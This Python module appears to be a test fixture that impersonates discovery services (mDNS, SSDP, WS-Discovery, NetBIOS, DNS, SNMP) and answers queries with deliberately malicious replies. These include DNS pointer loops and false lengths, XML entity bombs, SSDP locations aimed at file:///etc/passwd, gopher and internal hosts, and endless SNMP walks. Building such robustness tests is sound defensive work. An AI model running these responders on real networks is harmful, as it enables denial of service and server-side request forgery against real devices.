"""Answers to multicast and unicast questions that no honest device would give.

``ROLE ADDRESS``: ``mdns``, ``ssdp``, ``wsd``, ``netbios``, ``dns``, or an SNMP agent that is
``snmp-endless``, ``snmp-loop`` or ``snmp-garbage``. Sends nothing but answers, at most ``FLOOD`` to
one question. The random ones are drawn from a fixed seed.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
from itertools import count

from .words import WORDS

FLOOD = 400
LUCK = random.Random(6)
_STEPS = count(1)
GROUPS = {
    "mdns": ("224.0.0.251", 5353),
    "ssdp": ("239.255.255.250", 1900),
    "wsd": ("239.255.255.250", 3702),
}
PORTS = {"dns": 53, "netbios": 137, "snmp-endless": 161, "snmp-loop": 161, "snmp-garbage": 161}


def label(word: bytes) -> bytes:
    """One label of a DNS name, cut to the 63 bytes that one may have."""
    return bytes([len(word[:63])]) + word[:63]


def record(name: bytes, kind: int, data: bytes, length: int | None = None) -> bytes:
    """One resource record; `length` is what it says of its data, if not the truth."""
    said = len(data) if length is None else length
    return name + struct.pack("!HHIH", kind, 0x8001, 120, said) + data


def message(*records: bytes, answers: int | None = None) -> bytes:
    """A DNS response; `answers` is how many records it says to have."""
    said = len(records) if answers is None else answers
    return struct.pack("!6H", 0, 0x8400, 0, said, 0, 0) + b"".join(records)


def mdns(address: str) -> list[bytes]:
    """Loops, lies about lengths, and services with every word as a name."""
    local = b"\x05local\x00"
    http = b"\x05_http\x04_tcp" + local
    types = b"\x09_services\x07_dns-sd\x04_udp" + local
    own = socket.inet_aton(address)
    said = [
        message(b"\xc0\x0c" + struct.pack("!HHIH", 12, 1, 120, 2) + b"\xc0\x0c"),
        message(record(b"\x01a\xc0\x0e\xc0\x0c", 12, b"\xc0\x0c")),
        message(record(http, 16, b"\xff" * 200, length=65535), answers=65535),
        message(*(record(b"\xc0\x0c", 12, b"\xc0\x0c") for _ in range(600))),
        message(record(b"\x3fshort", 1, own)),
        message(record(http, 33, b"\x00" * 5)),
        message(record((b"\x01a" * 200) + b"\x00", 1, own)),
        struct.pack("!6H", 0, 0x8400, 65535, 65535, 65535, 65535),
        message(record(http, 16, b"\xff" + b"T" * 255 + (b"\xff" + b"x" * 255) * 30)),
    ]
    for number, word in enumerate(WORDS):
        instance, host = label(word) + http, label(word) + local
        said.append(
            message(
                record(types, 12, http),
                record(http, 12, instance),
                record(instance, 33, struct.pack("!3H", 0, 0, 8000 + number) + host),
                record(instance, 16, label(b"md=" + word) + label(word + b"=" + word)),
                record(host, 1, own),
            )
        )
    # Ever new types of service, each of which might be asked for in turn.
    for _ in range(FLOOD - len(said)):
        kind = label(b"_%x" % LUCK.getrandbits(48)) + b"\x04_tcp" + local
        said.append(message(*(record(types, 12, kind) for _ in range(8)), LUCK.randbytes(20)))
    return said


def ssdp(address: str) -> list[bytes]:
    """Floods of devices, whose descriptions are anywhere, or never end."""
    own = f"http://{address}"
    places = [
        *(f"{own}/{trap}" for trap in ("redirect", "drip", "endless", "bomb", "deep", "external")),
        *(f"{own}/{trap}" for trap in ("big", "headers", "words", "latin", "silent")),
        *("http://192.168.40.20:9100/x", "http://203.0.113.7/x", "http://127.0.0.1/x"),
        *(f"http://{address}@192.168.40.20/x", f"http://192.168.40.20#@{address}/x"),
        *("file:///etc/passwd", "gopher://192.168.40.20/", "http://[::ffff:192.168.40.20]/x"),
        *(f"{own}:99999/x", f"{own}:-1/x", "http://", "//x", "http://" + "a" * 60000),
        *(f"{own}/{number}" for number in range(FLOOD - 40)),
    ]
    said = []
    for number, place in enumerate(places):
        word = WORDS[number % len(WORDS)]
        said.append(
            b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: "
            + place.encode()
            + b"\r\nST: upnp:rootdevice\r\nSERVER: "
            + word
            + b"\r\nUSN: uuid:%s::upnp:rootdevice\r\n\r\n" % (word + b"%d" % number)
        )
    said += [b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 9000, b"HTTP/1.1 200 OK", b"\x00" * 60000]
    return said


def wsd(address: str) -> list[bytes]:
    """Entity bombs, depth, endpoints elsewhere, and words."""
    head = '<?xml version="1.0"?>'
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(10))
    soap = (
        '{}<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"'
        ' xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing"'
        ' xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:Action>'
        "http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</a:Action></s:Header><s:Body>"
        "<d:ProbeMatches><d:ProbeMatch><a:EndpointReference><a:Address>{}</a:Address>"
        "</a:EndpointReference><d:Types>{}</d:Types><d:XAddrs>{}</d:XAddrs></d:ProbeMatch>"
        "</d:ProbeMatches></s:Body></s:Envelope>"
    )
    bomb = f"{head}<!DOCTYPE x [{lol}]>"
    said = [
        soap.format(bomb, "urn:uuid:&l9;", "&l9;", f"http://{address}/x").encode(),
        soap.format(head, "x" * 40000, "y" * 10000, "http://192.168.40.20:9100/").encode(),
        (head + "<a>" * 15000).encode(),
        ("<a " + 'b="c" ' * 9000 + "/>").encode(),
        b"\xff\xfe<\x00",
        b"<?xml version='1.0' encoding='utf-7'?><a/>",
    ]
    for number, word in enumerate(WORDS):
        text = word.decode("latin-1").replace("&", "").replace("<", "&lt;")
        xaddr = f"http://{address}/{number}"
        said.append(soap.format(head, f"urn:uuid:{text}", text, xaddr).encode())
    return said * (FLOOD // len(said))


def netbios(question: bytes) -> list[bytes]:
    """Names of control bytes, and counts that are not so (RFC 1002, 4.2.18)."""
    if len(question) < 12:
        return []
    name = b"\x20" + b"CK" + b"A" * 30 + b"\x00"
    said = []
    for word in WORDS:
        names = b"".join(word[:15].ljust(15) + bytes([kind]) + b"\x04\x00" for kind in (0, 32))
        data = b"\x02" + names + b"\x00" * 46
        said.append(record(name, 33, data))
    said += [
        record(name, 33, b"\xff" + WORDS[0][:15].ljust(15) + b"\x00\x04\x00"),
        record(name, 33, b""),
        record(b"\xc0\x0c", 33, b"\xff" * 4000),
        record(name, 33, b"\x01", length=65535),
    ]
    whole = [question[:2] + struct.pack("!5H", 0x8400, 0, 1, 0, 0) + each for each in said]
    return [*whole, question, LUCK.randbytes(500), *whole]


def dns(question: bytes) -> list[bytes]:
    """Names that lead in circles, that are no names, and answers to what was not asked."""
    name = b"\xc0\x0c"
    asked = question[12:]
    if asked.startswith(b"\x03255"):  # who names a broadcast address gives himself away
        return []
    step = next(_STEPS)
    word = label(WORDS[step % len(WORDS)]) + b"\x03lan\x00"

    def answer(*records: bytes, number: bytes = question[:2], count: int | None = None) -> bytes:
        said = len(records) if count is None else count
        return number + struct.pack("!5H", 0x8580, 1, said, 0, 0) + asked + b"".join(records)

    said = [
        answer(record(name, 12, b"\x03bad\x00"), number=b"\x00\x00"),
        answer(record(name, 12, struct.pack("!H", 0xC000 | len(question)))),
        answer(record(name, 12, b"\x3f" + b"x" * 20), count=65535),
        answer(*(record(name, 12, word) for _ in range(100))),
        answer(record(b"\x05other\x00", 12, b"\x05other\x00")),
    ]
    # Which comes first is all that a careful reader looks at.
    return said[step % len(said) :] + said


def tlv(kind: int, data: bytes) -> bytes:
    """BER of one value."""
    if len(data) < 128:
        return bytes([kind, len(data)]) + data
    size = len(data).to_bytes(2, "big")
    return bytes([kind, 0x82]) + size + data


def _inside(data: bytes, at: int) -> tuple[int, int, int]:
    """Kind, start and end of the value at some place."""
    kind, size, start = data[at], data[at + 1], at + 2
    if size & 0x80:
        more = size & 0x7F
        size, start = int.from_bytes(data[start : start + more], "big"), start + more
    return kind, start, start + size


def asked(question: bytes) -> tuple[bytes, bytes, bytes]:
    """Community, request id and first OID of a v2c question (RFC 3416)."""
    _, start, _ = _inside(question, 0)
    _, _, after_version = _inside(question, start)
    _, at, after_community = _inside(question, after_version)
    community = question[at:after_community]
    _, at, _ = _inside(question, after_community)
    _, id_at, end = _inside(question, at)
    number = question[id_at:end]
    for _ in range(2):
        _, _, end = _inside(question, end)
    _, at, _ = _inside(question, end)
    _, at, _ = _inside(question, at)
    _, oid_at, end = _inside(question, at)
    return community, number, question[oid_at:end]


def snmp(role: str, question: bytes) -> list[bytes]:
    """A table that never ends, one that goes in circles, or noise."""
    if role == "snmp-garbage":
        return [LUCK.randbytes(LUCK.randrange(1500)) for _ in range(20)]
    try:
        community, number, oid = asked(question)
    except IndexError:
        return []
    word = WORDS[next(_STEPS) % len(WORDS)]
    rows = []
    for _ in range(10):
        if role == "snmp-endless":
            oid = oid + bytes([1]) if len(oid) < 100 else oid[:-1] + bytes([(oid[-1] + 1) % 128])
        rows.append(tlv(0x30, tlv(6, oid) + tlv(4, word * 40)))
    body = tlv(2, number) + tlv(2, b"\x00") + tlv(2, b"\x00") + tlv(0x30, b"".join(rows))
    return [tlv(0x30, tlv(2, b"\x01") + tlv(4, community) + tlv(0xA2, body))]


def answers(role: str, question: bytes) -> list[bytes]:
    """What comes of one question, where it depends on it."""
    if role == "dns":
        return dns(question)
    return netbios(question) if role == "netbios" else snmp(role, question)


def main(role: str, address: str) -> None:
    """Answer without end."""
    group, port = GROUPS.get(role, ("", PORTS.get(role, 0)))
    ears = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ears.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ears.bind(("", port))
    if group:
        member = socket.inet_aton(group) + socket.inet_aton(address)
        ears.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    fixed = {"mdns": mdns, "ssdp": ssdp, "wsd": wsd}
    ready = fixed[role](address) if role in fixed else []
    while True:
        question, who = ears.recvfrom(9000)
        if who[0] == address:
            continue
        said = ready or answers(role, question)
        for each in said:
            try:
                ears.sendto(each, who)
            except OSError:  # too long for one datagram, or nobody is there any more
                continue


if __name__ == "__main__":
    main(*sys.argv[1:])
